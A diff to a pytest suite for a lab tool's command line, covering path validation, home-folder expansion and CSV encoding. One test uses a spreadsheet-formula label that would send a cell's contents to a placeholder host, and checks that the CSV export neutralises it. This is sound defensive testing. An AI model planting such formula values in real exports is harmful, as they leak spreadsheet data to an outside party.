@@ -1,5 +1,6 @@
 """The command line: what it prints, its exit codes, and that bad input writes nothing."""
 
+import inspect
 import io
 import json
 import os
@@ -9,6 +10,7 @@ import signal
 import subprocess
 import sys
 import time
+import typing
 from pathlib import Path
 
 import numpy as np
@@ -17,6 +19,8 @@ import pytest
 
 import lab.cli
 from lab import RunStore, activations, compare, stats
+from lab.cli.shared import app, read_path
+from lab.spreadsheets import read_csv
 
 TINY = ["--dataset", "mnist-5k", "--hidden", "6,5", "--batch-size", "500"]
 
@@ -39,6 +43,89 @@ def in_a_process(*arguments, **options) -> subprocess.CompletedProcess:
 
 
 # Tables
+
+
+def path_parameters():
+    """Every option and argument of a command that is a path: its metadata, by command and name."""
+    for command in app.registered_commands:
+        for name, parameter in inspect.signature(command.callback).parameters.items():
+            kind, *about = typing.get_args(parameter.annotation) or [None]
+            if "Path" in str(kind):
+                yield f"{command.callback.__name__} {name}", about[0]
+
+
+def test_every_folder_and_file_may_be_in_the_users_home():
+    found = dict(path_parameters())
+    assert {"sweep study", "figures out_folder", "collect submissions"} <= set(found)
+    assert [name for name, about in found.items() if about.parser is not read_path] == []
+
+
+@pytest.mark.parametrize(
+    ("option", "place", "words"),
+    [
+        ("--store", "", "The store must be a folder, such as 'runs', not ''."),
+        (
+            *("--store", "s3://bucket/runs"),
+            "The store must be a folder of this machine, such as 'runs', and not an address, "
+            "such as s3://bucket/runs.",
+        ),
+        (
+            *("--out", "s3://bucket/figures"),
+            "Invalid value for '--out': A path must be one of this machine, and not an address, "
+            "such as s3://bucket/figures.",
+        ),
+    ],
+)
+def test_an_address_is_refused_and_no_folder_is_made(
+    lab_main, tmp_path, monkeypatch, option, place, words
+):
+    monkeypatch.chdir(tmp_path)
+    assert lab_main("figures", option, place) == (2, "", f"Error: {words}\n")
+    assert os.listdir(tmp_path) == []
+
+
+def test_a_tilde_is_the_users_home(lab_main, home, recorded, tmp_path):
+    shutil.copytree(recorded, home / "mine" / "runs")
+    code, text, _ = lab_main("report", "--store=~/mine/runs", "--out=~/mine/report.html")
+    assert code == 0
+    assert str(home / "mine" / "report.html") in text.replace("\n", "")
+    assert sorted(path.name for path in (home / "mine").iterdir()) == ["report.html", "runs"]
+
+
+def test_labels_of_students_are_text_in_a_spreadsheet(lab_main, recorded, tmp_path):
+    shutil.copytree(recorded, tmp_path / "runs")
+    store, label = RunStore(tmp_path / "runs"), '=HYPERLINK("http://example.invalid/?"&A1,"Zoë")'
+    store.label(next(iter(store)).run_id, label)
+    _, text, _ = lab_main("table", "runs", "--store", store.path, "--format", "csv")
+    assert text.startswith("\ufeffrun_id,")
+    assert "'" + label in set(pd.read_csv(io.StringIO(text)).label)
+    assert label in set(read_csv(io.StringIO(text)).label)
+    _, text, _ = lab_main(
+        *("table", "epochs", "--store", store.path, "--format", "csv", "--decimal-comma")
+    )
+    read = read_csv(io.StringIO(text), decimal_comma=True)
+    np.testing.assert_array_equal(read.loss, store.runs.epochs().loss)
+
+
+@pytest.mark.parametrize("command", [["table", "runs"], ["verdict"]])
+@pytest.mark.parametrize("options", [[], ["--format", "json"]])
+def test_decimal_commas_without_csv_are_refused(lab_main, recorded, command, options):
+    code, text, errors = lab_main(*command, "--store", recorded, *options, "--decimal-comma")
+    assert (code, text) == (2, "")
+    assert errors == "Error: decimal-comma is for CSV files: add --format csv.\n"
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
+def test_a_csv_is_utf_8_whatever_the_terminal_writes(recorded, tmp_path, encoding):
+    shutil.copytree(recorded, tmp_path / "runs")
+    store = RunStore(tmp_path / "runs")
+    store.label(next(iter(store)).run_id, "Zoë Müller")
+    command = [sys.executable, "-m", "lab", "table", "runs", "--format", "csv"]
+    options = {"env": os.environ | {"PYTHONIOENCODING": encoding}, "capture_output": True}
+    done = subprocess.run([*command, "--store", store.path], check=True, **options)
+    assert done.stdout.startswith(b"\xef\xbb\xbfrun_id,")
+    assert "Zoë Müller".encode() in done.stdout
+    assert b"\r" not in done.stdout
 
 
 @pytest.mark.parametrize("name", ["runs", "epochs", "layers", "units", "lives", "flows"])
@@ -426,7 +513,7 @@ assert "tensorflow" not in sys.modules and "keras" not in sys.modules
 def test_a_reader_that_stops_early_gets_no_traceback(store):
     command = f"{sys.executable} -m lab table units --format csv --store {store.path} | head -1"
     done = subprocess.run(command, shell=True, capture_output=True, text=True)
-    assert done.stdout.startswith("run_id,activation,")
+    assert done.stdout.startswith("\ufeffrun_id,activation,")
     assert "Traceback" not in done.stderr
 
 
@@ -510,8 +597,6 @@ def test_an_output_that_cannot_take_every_letter_gets_the_others(store, encoding
     options = {"env": os.environ | {"PYTHONIOENCODING": encoding}, "encoding": encoding}
     done = in_a_process("verdict", "--store", store.path, **options)
     assert done.returncode == 0, done.stderr
-    done = in_a_process("table", "runs", "--format", "csv", "--store", store.path, **options)
-    assert done.returncode == 0, done.stderr
     label = store.label(next(iter(store)).run_id, "Zoë α")
     done = in_a_process("show", label.run_id, "--store", store.path, **options)
     assert done.returncode == 0, done.stderr
@@ -539,7 +624,7 @@ def test_whoever_reads_no_further_is_no_error(store):
     command = f"{sys.executable} -m lab table units --format csv --store {store.path} | head -1"
     done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=120)
     assert done.stderr == ""
-    assert done.stdout.startswith("run_id,")
+    assert done.stdout.startswith("\ufeffrun_id,")
 
 
 def test_a_folder_whose_name_is_a_control_code_does_nothing_to_the_terminal(lab_main, tmp_path):
